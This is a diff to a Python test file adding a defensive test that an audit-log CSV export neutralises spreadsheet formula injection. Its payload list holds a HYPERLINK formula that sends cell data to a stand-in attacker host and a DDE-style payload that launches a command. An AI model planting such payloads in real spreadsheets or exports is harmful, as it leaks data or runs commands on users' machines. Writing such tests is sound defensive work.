@@ -10,7 +10,7 @@ import pytest
 from sqlalchemy import func, select
 
 from agent_desk.errors import PermissionDeniedError, ValidationError
-from agent_desk.models import AuditEvent, Customer
+from agent_desk.models import Agent, AuditEvent, Customer
 from agent_desk.services.actor import actor_for_login
 from agent_desk.services.audit import audit
 from agent_desk.services.audit_view import CSV_HEADER, audit_events, export_audit_csv
@@ -156,3 +156,44 @@ def test_a_missing_folder_is_refused(trail: tuple[Database, list[str]], tmp_path
         marieke = actor_for_login(session, "marieke")
         with pytest.raises(ValidationError):
             export_audit_csv(session, marieke, tmp_path / "nowhere" / "trail.csv")
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_the_export_never_hands_a_spreadsheet_a_formula(
+    trail: tuple[Database, list[str]], tmp_path: Path, hostile: str
+) -> None:
+    """OWASP CSV injection: a name or detail starting with = + - @ (or tab/CR) is
+    written as text, with a leading quote, and reads back as what was stored."""
+    database, _numbers = trail
+    with database.transaction() as session:
+        daan = session.scalars(select(Agent).where(Agent.login == "daan")).one()
+        daan.display_name = hostile
+        audit(
+            session,
+            actor_for_login(session, "daan"),
+            "view",
+            "customer",
+            None,
+            detail=hostile,
+            at=NOW,
+        )
+    target = tmp_path / "hostile.csv"
+    with database.transaction() as session:
+        export_audit_csv(session, actor_for_login(session, "marieke"), target, agent_login="daan")
+    with target.open(encoding="utf-8", newline="") as stream:
+        rows = list(csv.reader(stream))[1:]
+    assert rows, "the events were exported"
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert rows[0][1] == "'" + hostile and rows[0][6] == "'" + hostile
